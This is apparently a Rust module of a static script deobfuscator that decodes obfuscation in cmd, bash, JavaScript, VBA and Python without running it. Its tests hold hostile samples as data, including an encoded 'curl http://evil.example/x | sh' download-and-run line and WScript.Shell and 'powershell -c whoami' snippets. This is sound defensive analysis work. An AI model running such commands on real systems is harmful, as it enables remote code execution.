//! Layer peeling for cmd, bash/sh, JavaScript/JScript, VBA/VBScript and Python.
//!
//! These passes are regex-driven rewrites of the pure subset (literal decoding, concatenation,
//! variable expansion) plus unwrapping of `eval`-style sinks whose argument became a literal.
//! As for PowerShell, nothing is executed.

use std::collections::HashMap;
use std::sync::LazyLock;

use regex::{Captures, Regex};

use crate::decode;
use crate::engine::{Limits, Step};
use crate::types::Language;

fn re(s: &str) -> Regex {
    Regex::new(s).expect("invariant: static regex")
}

macro_rules! static_re {
    ($name:ident, $pat:expr) => {
        static $name: LazyLock<Regex> = LazyLock::new(|| re($pat));
    };
}

fn replace_all(r: &Regex, text: &str, f: impl Fn(&Captures) -> Option<String>) -> Option<String> {
    let mut changed = false;
    let out = r.replace_all(text, |c: &Captures| match f(c) {
        Some(s) => {
            changed = true;
            s
        }
        None => c[0].to_string(),
    });
    if changed && out != text { Some(out.into_owned()) } else { None }
}

fn b64_text(s: &str, limits: &Limits) -> Option<String> {
    let bytes = decode::base64_lenient(s).ok()?;
    let bytes = match decode::compression_of(&bytes) {
        Some(f) => decode::decompress(&bytes, f, limits.max_decompressed).ok()?,
        None => bytes,
    };
    let t = decode::bytes_to_text(&bytes);
    if t.trim().is_empty() || decode::ascii_ratio(&t) < 0.85 || t.len() > limits.max_output {
        None
    } else {
        Some(t)
    }
}

// ---------------------------------------------------------------- cmd

static_re!(CMD_SET, r#"(?im)^\s*@?(?:call\s+)?set\s+"?([A-Za-z_][\w#$@.-]*)=([^"\r\n]*)"?\s*$"#);
static_re!(
    CMD_VAR,
    r"%([A-Za-z_][\w#$@.-]*)(?::~(-?\d+)(?:,(-?\d+))?|:([^=%]+)=([^%]*))?%|!([A-Za-z_][\w#$@.-]*)!"
);
static_re!(
    CMD_C,
    r#"(?is)^\s*(?:c:\\windows\\system32\\)?cmd(?:\.exe)?\s+(?:/[a-z]\s+)*?/[ck]\s+"?(.+?)"?\s*$"#
);

fn cmd_substr(v: &str, start: Option<&str>, len: Option<&str>) -> Option<String> {
    let chars: Vec<char> = v.chars().collect();
    let n = chars.len() as i64;
    let s: i64 = start?.parse().ok()?;
    let mut s = if s < 0 { (n + s).max(0) } else { s.min(n) };
    let e = match len {
        None => n,
        Some(l) => {
            let l: i64 = l.parse().ok()?;
            if l < 0 { (n + l).max(s) } else { (s + l).min(n) }
        }
    };
    if s > e {
        s = e;
    }
    Some(chars[usize::try_from(s).ok()?..usize::try_from(e).ok()?].iter().collect())
}

static_re!(
    CMD_FOR,
    r#"(?im)^(\s*)for\s+/f\s+(?:"[^"\r\n]*"\s+)?%%?([a-z])\s+in\s+\(\s*(?:'(?:echo\s+)?([^'\r\n]*)'|"([^"\r\n]*)")\s*\)\s+do\s+([^\r\n]+)"#
);

/// `for /f %%a in ('echo X') do ...%%a...` with a literal source: the loop body with `X`.
fn cmd_for(text: &str) -> Option<String> {
    replace_all(&CMD_FOR, text, |c| {
        let value = c.get(3).or_else(|| c.get(4))?.as_str().trim_end();
        let var = &c[2];
        let body = c[5].replace(&format!("%%{var}"), value).replace(&format!("%{var}"), value);
        Some(format!("{}{}", &c[1], body))
    })
}

/// cmd: `set` tracking with `%v%`, `%v:~x,y%`, `%v:a=b%`, `!v!`, caret escapes, `cmd /c`,
/// `for /f` over a literal.
pub(crate) fn cmd_step(text: &str, limits: &Limits) -> Option<Step> {
    if let Some(t) = cmd_for(text) {
        return Some(Step::new("for /f over a literal expanded", t));
    }
    if let Some(c) = CMD_C.captures(text) {
        let inner = c[1].to_string();
        if !inner.contains('\n') && inner.len() < text.len() {
            return Some(Step::new("cmd /c wrapper removed", inner));
        }
    }
    let mut vars: HashMap<String, String> = HashMap::new();
    let mut out = String::with_capacity(text.len());
    let mut changed = false;
    for line in text.split_inclusive('\n') {
        let expanded = CMD_VAR.replace_all(line, |c: &Captures| {
            let name = c
                .get(1)
                .or_else(|| c.get(6))
                .map(|m| m.as_str().to_ascii_lowercase())
                .unwrap_or_default();
            let Some(v) = vars.get(&name) else { return c[0].to_string() };
            let r = if c.get(2).is_some() {
                cmd_substr(v, c.get(2).map(|m| m.as_str()), c.get(3).map(|m| m.as_str()))
            } else if let (Some(a), Some(b)) = (c.get(4), c.get(5)) {
                Some(replace_ci(v, a.as_str(), b.as_str()))
            } else {
                Some(v.clone())
            };
            r.unwrap_or_else(|| c[0].to_string())
        });
        let uncareted = uncaret(&expanded);
        if uncareted != line {
            changed = true;
        }
        if let Some(c) = CMD_SET.captures(&uncareted)
            && vars.len() < 10_000
            && c[2].len() <= limits.max_output
        {
            vars.insert(c[1].to_ascii_lowercase(), c[2].to_string());
        }
        out.push_str(&uncareted);
        if out.len() > limits.max_output {
            return None;
        }
    }
    if changed {
        Some(Step::new("cmd variable expansion, substrings and ^ escapes", out))
    } else {
        None
    }
}

fn replace_ci(hay: &str, from: &str, to: &str) -> String {
    if from.is_empty() {
        return hay.to_string();
    }
    match Regex::new(&format!("(?i){}", regex::escape(from))) {
        Ok(r) => r.replace_all(hay, regex::NoExpand(to)).into_owned(),
        Err(_) => hay.to_string(),
    }
}

fn uncaret(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut chars = line.chars().peekable();
    let mut in_q = false;
    while let Some(c) = chars.next() {
        if c == '"' {
            in_q = !in_q;
        }
        if c == '^'
            && !in_q
            && let Some(&n) = chars.peek()
            && n != '\n'
            && n != '\r'
        {
            out.push(n);
            chars.next();
            continue;
        }
        out.push(c);
    }
    out
}

// ---------------------------------------------------------------- bash

static_re!(
    BASH_B64,
    r#"(?:echo|printf)\s+(?:-[a-z]+\s+)?['"]?([A-Za-z0-9+/=]{8,})['"]?\s*\|\s*base64\s+(?:-d|--decode|-D)\b[^\n]*"#
);
static_re!(
    BASH_B64_HERE,
    r#"base64\s+(?:-d|--decode|-D)\s*<<<\s*['"]?([A-Za-z0-9+/=]{8,})['"]?[^\n]*"#
);
static_re!(BASH_ANSI, r"\$'((?:[^'\\]|\\.)*)'");
static_re!(
    BASH_PRINTF,
    r#"printf\s+(?:'((?:\\x[0-9a-fA-F]{2}|\\[0-7]{3})+)'|"((?:\\x[0-9a-fA-F]{2}|\\[0-7]{3})+)")"#
);
static_re!(
    BASH_REV,
    r#"(?:echo\s+['"]?([^'"|\n]+?)['"]?\s*\|\s*rev|rev\s*<<<\s*['"]?([^'"\n]+?)['"]?)\b"#
);
static_re!(BASH_EVAL, r#"(?m)^\s*eval\s+(?:"([^"$`\\]*)"|'([^']*)')\s*$"#);
static_re!(
    BASH_ASSIGN,
    r#"(?m)^\s*([A-Za-z_]\w*)=(?:'([^']*)'|"([^"$`\\]*)"|([^\s;'"$`|&]*))\s*(?:;|$)"#
);
static_re!(BASH_USE, r"\$\{([A-Za-z_]\w*)\}|\$([A-Za-z_]\w*)");

fn c_escapes(s: &str) -> String {
    let chars: Vec<char> = s.chars().collect();
    let mut out = String::new();
    let mut i = 0;
    while i < chars.len() {
        if chars[i] == '\\' && i + 1 < chars.len() {
            let e = chars[i + 1];
            match e {
                'x' => {
                    let h: String = chars[i + 2..(i + 4).min(chars.len())]
                        .iter()
                        .take_while(|c| c.is_ascii_hexdigit())
                        .collect();
                    if let Some(c) = u32::from_str_radix(&h, 16).ok().and_then(char::from_u32) {
                        out.push(c);
                        i += 2 + h.len();
                        continue;
                    }
                }
                'u' => {
                    let h: String = chars[i + 2..(i + 6).min(chars.len())]
                        .iter()
                        .take_while(|c| c.is_ascii_hexdigit())
                        .collect();
                    if h.len() == 4
                        && let Some(c) = u32::from_str_radix(&h, 16).ok().and_then(char::from_u32)
                    {
                        out.push(c);
                        i += 6;
                        continue;
                    }
                }
                '0'..='7' => {
                    let o: String = chars[i + 1..(i + 4).min(chars.len())]
                        .iter()
                        .take_while(|c| c.is_digit(8))
                        .collect();
                    if let Some(c) = u32::from_str_radix(&o, 8).ok().and_then(char::from_u32) {
                        out.push(c);
                        i += 1 + o.len();
                        continue;
                    }
                }
                'n' => {
                    out.push('\n');
                    i += 2;
                    continue;
                }
                't' => {
                    out.push('\t');
                    i += 2;
                    continue;
                }
                'r' => {
                    out.push('\r');
                    i += 2;
                    continue;
                }
                '\\' | '\'' | '"' => {
                    out.push(e);
                    i += 2;
                    continue;
                }
                _ => {}
            }
        }
        out.push(chars[i]);
        i += 1;
    }
    out
}

fn sh_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// bash/sh: `base64 -d | sh`, `$'\x..'`, `printf`, `rev`, `eval`, variable splicing.
pub(crate) fn bash_step(text: &str, limits: &Limits) -> Option<Step> {
    for r in [&*BASH_B64, &*BASH_B64_HERE] {
        if let Some(c) = r.captures(text)
            && let Some(t) = b64_text(&c[1], limits)
        {
            return Some(Step::new("base64 -d | sh", t).entry());
        }
    }
    if let Some(c) = BASH_EVAL.captures(text) {
        let inner =
            c.get(1).or_else(|| c.get(2)).map(|m| m.as_str().to_string()).unwrap_or_default();
        if !inner.trim().is_empty() {
            let whole = c.get(0).map(|m| m.range()).unwrap_or(0..0);
            let mut out = String::new();
            out.push_str(&text[..whole.start]);
            out.push_str(&inner);
            out.push_str(&text[whole.end..]);
            return Some(Step::new("eval of a literal", out));
        }
    }
    if let Some(t) = replace_all(&BASH_ANSI, text, |c| Some(sh_quote(&c_escapes(&c[1])))) {
        return Some(Step::new("$'\\x..' ANSI-C string decoded", t));
    }
    if let Some(t) = replace_all(&BASH_PRINTF, text, |c| {
        Some(format!("echo {}", sh_quote(&c_escapes(c.get(1).or_else(|| c.get(2))?.as_str()))))
    }) {
        return Some(Step::new("printf escapes decoded", t));
    }
    if let Some(t) = replace_all(&BASH_REV, text, |c| {
        let s = c.get(1).or_else(|| c.get(2))?.as_str();
        Some(format!("echo {}", sh_quote(&s.chars().rev().collect::<String>())))
    }) {
        return Some(Step::new("rev reversal undone", t));
    }
    // Variable splicing: a=cu; b=rl; $a$b ...
    let mut vars: HashMap<String, String> = HashMap::new();
    for c in BASH_ASSIGN.captures_iter(text).take(10_000) {
        let v =
            c.get(2).or_else(|| c.get(3)).or_else(|| c.get(4)).map(|m| m.as_str()).unwrap_or("");
        vars.insert(c[1].to_string(), v.to_string());
    }
    if !vars.is_empty() {
        let mut changed = false;
        let mut out = String::new();
        for line in text.split_inclusive('\n') {
            if BASH_ASSIGN.is_match(line) {
                out.push_str(line);
                continue;
            }
            let l = BASH_USE.replace_all(line, |c: &Captures| {
                let name = c.get(1).or_else(|| c.get(2)).map(|m| m.as_str()).unwrap_or("");
                match vars.get(name) {
                    Some(v) => {
                        changed = true;
                        v.clone()
                    }
                    None => c[0].to_string(),
                }
            });
            out.push_str(&l);
        }
        if changed && out != text && out.len() <= limits.max_output {
            return Some(Step::new("shell variable splicing resolved", out));
        }
    }
    None
}

// ---------------------------------------------------------------- JavaScript

static_re!(
    JS_FCC,
    r"String\.fromCharCode\s*\(\s*((?:0x[0-9a-fA-F]+|\d+)(?:\s*,\s*(?:0x[0-9a-fA-F]+|\d+))*)\s*\)"
);
static_re!(
    JS_UNESCAPE,
    r#"(?:unescape|decodeURIComponent|decodeURI)\s*\(\s*(?:'([^'\\]*)'|"([^"\\]*)")\s*\)"#
);
static_re!(JS_ATOB, r#"atob\s*\(\s*(?:'([A-Za-z0-9+/=]*)'|"([A-Za-z0-9+/=]*)")\s*\)"#);
static_re!(
    JS_ESC_STR,
    r#"'((?:[^'\\\n]|\\.)*\\(?:x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4})(?:[^'\\\n]|\\.)*)'|"((?:[^"\\\n]|\\.)*\\(?:x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4})(?:[^"\\\n]|\\.)*)""#
);
static_re!(
    JS_CONCAT,
    r#"'((?:[^'\\\n]|\\.)*)'\s*\+\s*'((?:[^'\\\n]|\\.)*)'|"((?:[^"\\\n]|\\.)*)"\s*\+\s*"((?:[^"\\\n]|\\.)*)""#
);
static_re!(
    JS_EVAL,
    r#"(?:\beval|\bnew\s+Function|\bFunction)\s*\(\s*(?:'((?:[^'\\]|\\.)*)'|"((?:[^"\\]|\\.)*)")\s*\)(?:\s*\(\s*\))?\s*;?"#
);
static_re!(
    JS_ARRAY,
    r#"(?:var|let|const)\s+(_0x[0-9a-fA-F]+|\w+)\s*=\s*\[\s*((?:(?:'(?:[^'\\]|\\.)*'|"(?:[^"\\]|\\.)*")\s*,?\s*)+)\]\s*;?"#
);
static_re!(JS_ARRAY_ITEM, r#"'((?:[^'\\]|\\.)*)'|"((?:[^"\\]|\\.)*)""#);

fn js_quote(s: &str) -> String {
    let mut out = String::from("'");
    for c in s.chars() {
        match c {
            '\'' => out.push_str("\\'"),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            c => out.push(c),
        }
    }
    out.push('\'');
    out
}

fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out: Vec<u16> = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%'
            && i + 5 < b.len()
            && (b[i + 1] == b'u' || b[i + 1] == b'U')
            && let Some(v) = std::str::from_utf8(&b[i + 2..(i + 6).min(b.len())])
                .ok()
                .and_then(|h| u16::from_str_radix(h, 16).ok())
        {
            out.push(v);
            i += 6;
            continue;
        }
        if b[i] == b'%'
            && i + 2 < b.len()
            && let Some(v) = std::str::from_utf8(&b[i + 1..i + 3])
                .ok()
                .and_then(|h| u8::from_str_radix(h, 16).ok())
        {
            out.push(u16::from(v));
            i += 3;
            continue;
        }
        out.push(u16::from(b[i]));
        i += 1;
    }
    String::from_utf16_lossy(&out)
}

/// JavaScript / JScript: `String.fromCharCode`, `unescape`, `atob`, escapes, concatenation,
/// string arrays, `eval` / `Function` sinks.
pub(crate) fn js_step(text: &str, limits: &Limits) -> Option<Step> {
    if let Some(t) = replace_all(&JS_FCC, text, |c| {
        let s: Option<String> = c[1]
            .split(',')
            .map(|n| {
                let n = n.trim();
                let v = if let Some(h) = n.strip_prefix("0x").or_else(|| n.strip_prefix("0X")) {
                    u32::from_str_radix(h, 16).ok()
                } else {
                    n.parse().ok()
                };
                v.and_then(char::from_u32)
            })
            .collect();
        s.map(|s| js_quote(&s))
    }) {
        return Some(Step::new("String.fromCharCode decoded", t));
    }
    if let Some(t) = replace_all(&JS_UNESCAPE, text, |c| {
        let s = c.get(1).or_else(|| c.get(2))?.as_str();
        Some(js_quote(&percent_decode(s)))
    }) {
        return Some(Step::new("unescape / percent-encoding decoded", t));
    }
    if let Some(t) = replace_all(&JS_ATOB, text, |c| {
        let s = c.get(1).or_else(|| c.get(2))?.as_str();
        b64_text(s, limits).map(|d| js_quote(&d))
    }) {
        return Some(Step::new("atob base64 decoded", t));
    }
    if let Some(t) = replace_all(&JS_ESC_STR, text, |c| {
        let s = c.get(1).or_else(|| c.get(2))?.as_str();
        Some(js_quote(&c_escapes(s)))
    }) {
        return Some(Step::new("hex/unicode string escapes decoded", t));
    }
    if let Some(t) = fold_concat(&JS_CONCAT, text, js_quote, limits) {
        return Some(Step::new("string concatenation folded", t));
    }
    if let Some(t) = js_string_array(text) {
        return Some(Step::new("string-array lookups resolved", t));
    }
    if let Some(c) = JS_EVAL.captures(text) {
        let inner = c_escapes(c.get(1).or_else(|| c.get(2)).map(|m| m.as_str()).unwrap_or(""));
        if !inner.trim().is_empty() {
            let r = c.get(0).map(|m| m.range()).unwrap_or(0..0);
            let out = format!("{}{}{}", &text[..r.start], inner, &text[r.end..]);
            return Some(Step::new("eval / Function of a literal", out));
        }
    }
    None
}

fn fold_concat(
    r: &Regex,
    text: &str,
    quote: fn(&str) -> String,
    limits: &Limits,
) -> Option<String> {
    let mut cur = text.to_string();
    let mut changed = false;
    for _ in 0..64 {
        let next = replace_all(r, &cur, |c| {
            let a = c.get(1).or_else(|| c.get(3))?.as_str();
            let b = c.get(2).or_else(|| c.get(4))?.as_str();
            Some(quote(&(c_escapes(a) + &c_escapes(b))))
        });
        match next {
            Some(n) if n.len() <= limits.max_output => {
                cur = n;
                changed = true;
            }
            _ => break,
        }
    }
    if changed { Some(cur) } else { None }
}

fn js_string_array(text: &str) -> Option<String> {
    let c = JS_ARRAY.captures(text)?;
    let name = c[1].to_string();
    let items: Vec<String> = JS_ARRAY_ITEM
        .captures_iter(&c[2])
        .map(|i| c_escapes(i.get(1).or_else(|| i.get(2)).map(|m| m.as_str()).unwrap_or("")))
        .collect();
    let use_re =
        Regex::new(&format!(r"\b{}\s*\[\s*(0x[0-9a-fA-F]+|\d+)\s*\]", regex::escape(&name)))
            .ok()?;
    replace_all(&use_re, text, |u| {
        let n = &u[1];
        let k = if let Some(h) = n.strip_prefix("0x") {
            usize::from_str_radix(h, 16).ok()?
        } else {
            n.parse().ok()?
        };
        items.get(k).map(|s| js_quote(s))
    })
}

// ---------------------------------------------------------------- VBA / VBScript

static_re!(VB_CHR, r"(?i)\bChr[WB]?\$?\s*\(\s*(&H[0-9a-fA-F]+|-?\d+)(?:\s*([-+*])\s*(\d+))?\s*\)");
static_re!(VB_CONCAT, r#""((?:[^"\n]|"")*)"\s*[&+]\s*"((?:[^"\n]|"")*)""#);
static_re!(VB_REV, r#"(?i)\bStrReverse\s*\(\s*"((?:[^"\n]|"")*)"\s*\)"#);
static_re!(
    VB_REPLACE,
    r#"(?i)\bReplace\s*\(\s*"((?:[^"\n]|"")*)"\s*,\s*"((?:[^"\n]|"")*)"\s*,\s*"((?:[^"\n]|"")*)"\s*\)"#
);
static_re!(
    VB_EXEC,
    r#"(?im)^\s*(?:Execute|ExecuteGlobal|Eval)\s*\(?\s*"((?:[^"\n]|"")*)"\s*\)?\s*$"#
);

fn vb_quote(s: &str) -> String {
    format!("\"{}\"", s.replace('"', "\"\""))
}

fn vb_unq(s: &str) -> String {
    s.replace("\"\"", "\"")
}

/// VBA / VBScript: `Chr`/`ChrW`, `&` concatenation, `StrReverse`, `Replace`, `Execute`.
pub(crate) fn vba_step(text: &str, limits: &Limits) -> Option<Step> {
    if let Some(t) = replace_all(&VB_CHR, text, |c| {
        let n = &c[1];
        let mut v: i64 = if let Some(h) = n.strip_prefix("&H").or_else(|| n.strip_prefix("&h")) {
            i64::from_str_radix(h, 16).ok()?
        } else {
            n.parse().ok()?
        };
        if let (Some(op), Some(k)) = (c.get(2), c.get(3)) {
            let k: i64 = k.as_str().parse().ok()?;
            v = match op.as_str() {
                "+" => v.checked_add(k)?,
                "-" => v.checked_sub(k)?,
                _ => v.checked_mul(k)?,
            };
        }
        let ch = char::from_u32(u32::try_from(v).ok()?)?;
        Some(vb_quote(&ch.to_string()))
    }) {
        return Some(Step::new("Chr()/ChrW() decoded", t));
    }
    if let Some(t) = replace_all(&VB_REV, text, |c| {
        Some(vb_quote(&vb_unq(&c[1]).chars().rev().collect::<String>()))
    }) {
        return Some(Step::new("StrReverse undone", t));
    }
    if let Some(t) = replace_all(&VB_REPLACE, text, |c| {
        let from = vb_unq(&c[2]);
        if from.is_empty() {
            return None;
        }
        Some(vb_quote(&vb_unq(&c[1]).replace(&from, &vb_unq(&c[3]))))
    }) {
        return Some(Step::new("Replace() evaluated", t));
    }
    let mut cur = text.to_string();
    let mut changed = false;
    for _ in 0..64 {
        match replace_all(&VB_CONCAT, &cur, |c| Some(vb_quote(&(vb_unq(&c[1]) + &vb_unq(&c[2]))))) {
            Some(n) if n.len() <= limits.max_output => {
                cur = n;
                changed = true;
            }
            _ => break,
        }
    }
    if changed {
        return Some(Step::new("string concatenation (&) folded", cur));
    }
    if let Some(c) = VB_EXEC.captures(text) {
        let inner = vb_unq(&c[1]);
        if !inner.trim().is_empty() {
            let r = c.get(0).map(|m| m.range()).unwrap_or(0..0);
            let out = format!("{}{}{}", &text[..r.start], inner, &text[r.end..]);
            return Some(Step::new("Execute of a literal", out));
        }
    }
    None
}

// ---------------------------------------------------------------- Python

static_re!(
    PY_B64,
    r#"(?:exec|eval)\s*\(\s*(?:(zlib)\.decompress\s*\(\s*)?base64\.b64decode\s*\(\s*b?['"]([A-Za-z0-9+/=\s]+)['"]\s*\)\s*\)?(?:\.decode\([^)]*\))?\s*\)"#
);
static_re!(PY_ROT13, r#"codecs\.decode\s*\(\s*['"]([^'"]*)['"]\s*,\s*['"]rot_?13['"]\s*\)"#);

/// Python: `exec(base64.b64decode(..))`, with zlib, and rot13 via `codecs`.
pub(crate) fn python_step(text: &str, limits: &Limits) -> Option<Step> {
    if let Some(c) = PY_B64.captures(text) {
        let bytes = decode::base64_lenient(&c[2]).ok()?;
        let bytes = if c.get(1).is_some() {
            decode::decompress(&bytes, "zlib", limits.max_decompressed).ok()?
        } else {
            bytes
        };
        let t = decode::bytes_to_text(&bytes);
        if decode::ascii_ratio(&t) > 0.85 {
            return Some(
                Step::new("exec(base64.b64decode(...))", t).with_lang(Language::Python).blob(),
            );
        }
    }
    if let Some(t) = replace_all(&PY_ROT13, text, |c| {
        let s: String = c[1]
            .chars()
            .map(|ch| match ch {
                'a'..='z' => (((ch as u8 - b'a' + 13) % 26) + b'a') as char,
                'A'..='Z' => (((ch as u8 - b'A' + 13) % 26) + b'A') as char,
                o => o,
            })
            .collect();
        Some(format!("'{}'", s.replace('\'', "\\'")))
    }) {
        return Some(Step::new("rot13 decoded", t));
    }
    None
}

/// Unknown language: PowerShell's special-character and ticking obfuscations defeat keyword
/// detection, so the (conservative) PowerShell passes are tried.
pub(crate) fn generic_step(text: &str, limits: &Limits) -> Option<Step> {
    crate::powershell::step(text, limits).map(|s| s.with_lang(Language::PowerShell))
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn lim() -> Limits {
        Limits::for_tests()
    }

    #[test]
    fn every_pass_runs_on_plain_text() {
        // Forces every static regex to compile: a bad pattern would panic here, not in use.
        let l = lim();
        for t in ["plain text", "x", ""] {
            assert!(cmd_step(t, &l).is_none());
            assert!(bash_step(t, &l).is_none());
            assert!(js_step(t, &l).is_none());
            assert!(vba_step(t, &l).is_none());
            assert!(python_step(t, &l).is_none());
            assert!(generic_step(t, &l).is_none(), "{t}");
        }
        let t = bash_step("printf '\\x68\\x69'", &l).unwrap().text;
        assert_eq!(t, "echo 'hi'");
    }

    #[test]
    fn cmd_for_f_and_delayed_expansion() {
        let s = "setlocal enabledelayedexpansion\r\nfor /f \"tokens=*\" %%a in ('echo powershell') do %%a -c whoami\r\n";
        let t = cmd_step(s, &lim()).unwrap().text;
        assert!(t.contains("powershell -c whoami"), "{t}");
        let s = "set x=who\r\nset y=!x!ami\r\necho !y!\r\n";
        let t = cmd_step(s, &lim()).unwrap().text;
        assert!(t.contains("echo whoami"), "{t}");
    }

    #[test]
    fn cmd_substrings_and_carets() {
        let s = "set x=abcdefpowershell\r\necho %x:~6,10% ^w^h^o^a^m^i\r\n";
        let t = cmd_step(s, &lim()).unwrap().text;
        assert!(t.contains("echo powershell whoami"), "{t}");
    }

    #[test]
    fn bash_base64_pipe() {
        let t = bash_step(
            "echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | bash",
            &lim(),
        )
        .unwrap()
        .text;
        assert_eq!(t, "curl http://evil.example/x | sh");
        let t = bash_step("x=$'\\x63\\x75\\x72\\x6c'", &lim()).unwrap().text;
        assert_eq!(t, "x='curl'");
    }

    #[test]
    fn js_layers() {
        let t = js_step("eval(String.fromCharCode(97,108,101,114,116))", &lim()).unwrap().text;
        assert_eq!(t, "eval('alert')");
        let t = js_step("var a = 'ev' + 'il';", &lim()).unwrap().text;
        assert_eq!(t, "var a = 'evil';");
        let t = js_step("var _0x1=['WScript.Shell','Run'];x=new ActiveXObject(_0x1[0]);", &lim())
            .unwrap()
            .text;
        assert!(t.contains("ActiveXObject('WScript.Shell')"), "{t}");
    }

    #[test]
    fn vba_chr_and_reverse() {
        let t = vba_step("x = Chr(112) & Chr(111)", &lim()).unwrap().text;
        assert_eq!(t, "x = \"p\" & \"o\"");
        let t = vba_step(&t, &lim()).unwrap().text;
        assert_eq!(t, "x = \"po\"");
        let t = vba_step("y = StrReverse(\"llehsrewop\")", &lim()).unwrap().text;
        assert_eq!(t, "y = \"powershell\"");
    }
}
